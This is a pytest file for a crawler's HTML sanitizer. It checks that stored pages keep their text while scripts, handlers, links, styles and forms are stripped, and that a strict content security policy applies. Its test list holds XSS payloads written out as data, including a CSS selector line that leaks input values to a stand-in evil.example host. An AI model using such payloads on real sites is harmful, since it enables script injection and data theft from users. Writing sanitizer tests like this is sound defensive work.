"""What a stranger wrote keeps its words and loses everything that acts, loads or leads away."""

import re

import pytest

from crawler.desk import frame
from storage.records import Page


def shown(body: str, kind: str = "text/html; charset=utf-8") -> str:
    page = Page(
        asked="https://e.org/",
        address="https://e.org/",
        status=200,
        headers=(("content-type", kind),),
        body=body.encode(),
    )
    return frame.inert(page).partition("<body>")[2]


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<p onclick=alert(1) style='background:url(//evil)'>",
        "<a href='javascript:alert(1)'>",
        "<a href='https://evil.example/'>",
        "<base href='https://evil.example/'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<svg onload=alert(1)><a xlink:href='javascript:1'><text>x</text></a></svg>",
        "<style>@import 'https://evil.example/x.css'; input[value^=a]{background:url(https://evil.example/a)}</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<iframe srcdoc='<script>1</script>'></iframe>",
        "<form action=https://evil.example/><input name=a><button>go</button></form>",
        "<object data=x></object><embed src=x><video src=x autoplay></video>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "</body></html><script>alert(1)</script>",
    ],
)
def test_what_acts_is_taken_out(hostile: str) -> None:
    said = shown(f"<h1>Before</h1>{hostile}<p>after</p>")

    assert "<h1>Before</h1>" in said
    elements = set(re.findall(r"<(\w+)", said))
    assert elements <= {"h1", "p", "a", "table"}
    assert not re.search(r"\b(on\w+|style|href|src|srcset|action|xlink:href)\s*=", said)


def test_text_that_is_no_markup_is_shown_letter_by_letter() -> None:
    assert (
        shown("<script>alert(1)</script>", "text/plain") == "<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>"
    )


def test_structure_stays() -> None:
    said = shown('<table><tr><td colspan="2">one</td></tr></table><ol start="3"><li>two</li></ol>')

    assert 'colspan="2"' in said
    assert 'start="3"' in said


def test_only_our_own_style_is_allowed() -> None:
    assert frame.POLICY.startswith("default-src 'none'; style-src 'sha256-")
    assert frame.POLICY.endswith("sandbox")
